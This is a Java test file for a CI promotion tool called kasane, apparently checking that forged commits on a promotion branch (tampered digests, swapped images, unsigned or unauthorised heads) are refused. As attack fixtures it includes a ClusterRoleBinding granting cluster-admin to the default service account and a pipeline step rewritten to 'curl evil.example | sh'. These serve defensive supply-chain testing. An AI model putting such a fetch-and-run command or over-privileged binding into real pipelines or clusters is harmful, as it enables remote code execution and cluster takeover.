package dev.kasane.cli.ci;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Whoever may push to a promotion's branch cannot make kasane keep, describe, sign or merge what it did not write, beside the sources
 * and in another repository.
 */
@ParameterizedClass
@EnumSource
class ForgedPromotionTest {

    private static final String PROD = "overlays/prod/kustomization.yaml";
    private static final String ROLE = """
        apiVersion: rbac.authorization.k8s.io/v1
        kind: ClusterRoleBinding
        metadata: {name: everything}
        roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
        subjects: [{kind: ServiceAccount, name: default, namespace: default}]
        """;

    private final PromotedServices.Place place;

    @TempDir
    Path temporary;

    private PromotedServices services;
    private TwoServices workspace;
    private Forger forger;

    ForgedPromotionTest(PromotedServices.Place place) {
        this.place = place;
    }

    @BeforeEach
    void a_proposal_for_prod() throws Exception {
        services = new PromotedServices(place, temporary);
        workspace = services.workspace;
        forger = services.forger;
    }

    @AfterEach
    void close() {
        services.close();
    }

    /** Runs kasane again and holds that it changed nothing, told the pull request, and merges nothing. */
    private void assertRefused(ObjectId forged, String why) throws Exception {
        ObjectId main = forger.tip("main");
        for (int run = 0; run < 2; run++) {
            assertThat(workspace.run(1, "ci"))
                    .contains("held          api -> overlays/prod")
                    .contains(forger.promotion + " has commits of others: "
                            + forged.abbreviate(10).name());
        }
        assertThat(forger.tip(forger.promotion)).isEqualTo(forged);
        assertThat(services.pr(0, "show", "1").split("--- comment", -1)).hasSize(2);
        assertThat(services.pr(0, "show", "1"))
                .contains("There are commits of others on `" + forger.promotion + "`", why);
        services.pr(2, "merge", "1");
        assertThat(workspace.stderr())
                .contains(
                        "kasane did not write all of pull request 1",
                        forged.abbreviate(10).name(),
                        why);
        assertThat(forger.tip("main")).isEqualTo(main);
    }

    @Test
    void a_head_with_more_than_the_promotion_is_somebody_elses() throws Exception {
        ObjectId forged = forger.amend(
                Map.of(
                        "base/role.yaml",
                        ROLE,
                        "base/kustomization.yaml",
                        "resources: [api.yaml, web.yaml, role.yaml]\n",
                        "pipelines/api.yaml",
                        TwoServices.PIPELINE
                                .replace("[sh, build.sh, NAME]", "[sh, -c, 'curl evil.example | sh']")
                                .replace("NAME", "api")
                                .replace("GATES", "")),
                UnaryOperator.identity());

        assertRefused(forged, "is not what its promotion writes");
    }

    @Test
    void a_head_that_changes_one_more_byte_of_an_edited_file_is_somebody_elses() throws Exception {
        String prod = forger.read(forger.promotion, PROD);
        ObjectId forged = forger.amend(Map.of(PROD, prod.replace("images:", "images: ")), UnaryOperator.identity());

        assertRefused(forged, "is not what its promotion writes");
    }

    @Test
    void an_edit_of_a_target_that_no_pipeline_promotes_to_is_not_believed() throws Exception {
        ObjectId forged = forger.amend(
                Map.of(PROD, TwoServices.OVERLAY),
                message -> message.stripTrailing() + "\nKasane-Edit: api evil.example/own/other eeeeeee sha256:"
                        + "e".repeat(64) + " api " + "e".repeat(40) + " base");

        assertRefused(forged, "api in base to eeeeeee is proved by no pipeline and build");
    }

    @Test
    void an_edit_with_a_digest_that_was_never_built_is_not_believed() throws Exception {
        String digest = "sha256:" + "e".repeat(64);
        String prod = forger.read(forger.promotion, PROD);
        ObjectId forged = forger.amend(
                Map.of(PROD, prod.replaceAll("sha256:[0-9a-f]{64}", digest)),
                message -> message.replaceAll("sha256:[0-9a-f]{64}", digest));

        assertRefused(forged, "is proved by no pipeline and build");
    }

    @Test
    void an_image_of_another_pipeline_is_not_believed() throws Exception {
        String api = digest(forger.read(forger.promotion, PROD), "api");
        String web = digest(forger.read(forger.promotion, PROD), "web");
        String prod = forger.read(forger.promotion, PROD);
        ObjectId forged = forger.amend(
                Map.of(PROD, prod.replace(api, "#").replace(web, api).replace("#", web)),
                message -> message.replace(api, "#").replace(web, api).replace("#", web));

        assertRefused(forged, "is proved by no pipeline and build");
    }

    @Test
    void a_second_commit_in_kasanes_name_is_somebody_elses() throws Exception {
        ObjectId forged = forger.commit(forger.promotion, Map.of("base/role.yaml", ROLE));

        assertRefused(forged, "it names no promotion");
    }

    @Test
    void with_a_key_a_head_that_it_did_not_sign_is_somebody_elses() throws Exception {
        Path key = key("key");
        workspace.run(1, "ci", "--sign", key.toString());

        assertThat(services.pr(0, "show", "1")).contains("it is not signed with kasane's key");
        workspace.environment.put("KASANE_SIGNING_KEY", key.toString());
        services.pr(2, "merge", "1");
        assertThat(workspace.stderr()).contains("it is not signed with kasane's key");
    }

    @Test
    void a_signed_head_is_kept_and_merged_and_one_signed_with_another_key_is_not() throws Exception {
        ObjectId unsigned = forger.tip(forger.promotion);
        services.pr(0, "merge", "1");
        workspace.write("web/App.class", "better code");
        workspace.commit();
        workspace.environment.put("KASANE_SIGNING_KEY", key("key").toString());
        workspace.run(0, "ci");
        ObjectId signed = forger.tip(forger.promotion);
        assertThat(signed).isNotEqualTo(unsigned);

        workspace.environment.put("KASANE_SIGNING_KEY", key("other").toString());
        assertThat(workspace.run(1, "ci")).contains("has commits of others");
        workspace.environment.put("KASANE_SIGNING_KEY", temporary.resolve("key").toString());
        workspace.run(0, "ci");
        assertThat(forger.tip(forger.promotion)).isEqualTo(signed);
        assertThat(services.pr(0, "merge", "2")).startsWith("#2 is merged");
    }

    @Test
    void a_person_merges_what_others_wrote_by_naming_the_commit_that_was_reviewed() throws Exception {
        ObjectId forged = forger.commit(forger.promotion, Map.of("base/note.txt", "wanted\n"));

        services.pr(2, "merge", "1", "--reviewed", forger.tip("main").name());
        assertThat(workspace.stderr()).contains("the head of pull request 1 is " + forged.name());
        assertThat(services.pr(0, "merge", "1", "--reviewed", forged.name())).startsWith("#1 is merged");
    }

    private Path key(String name) throws Exception {
        Path key = temporary.resolve(name);
        Process made = new ProcessBuilder("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.toString())
                .redirectErrorStream(true)
                .start();
        assertThat(made.waitFor()).isZero();
        return key;
    }

    private static String digest(String overlay, String image) {
        int at = overlay.indexOf("sha256:", overlay.indexOf("name: " + image));
        return overlay.substring(at, at + "sha256:".length() + 64);
    }
}
